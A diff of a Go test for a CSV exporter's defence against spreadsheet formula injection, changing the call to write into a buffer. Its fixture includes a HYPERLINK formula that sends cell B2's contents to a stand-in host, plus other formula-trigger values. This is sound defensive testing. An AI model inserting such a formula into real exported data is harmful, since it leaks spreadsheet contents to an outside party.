@@ -30,7 +30,9 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 	t.Parallel()
 	bad := "=HYPERLINK(\"http://x.example/\"&B2,\"Klik\")"
 	r := Record{Title: bad, Summary: "@SUM(1)", InitiatorName: "+1", Goals: " -1", Tags: []string{"aman", "=1+1"}, ContactPhone: "+62 21 1234"}
-	b, err := CSV([]Record{r})
+	var buf bytes.Buffer
+	err := CSV(&buf, []Record{r})
+	b := buf.Bytes()
 	if err != nil {
 		t.Fatal(err)
 	}
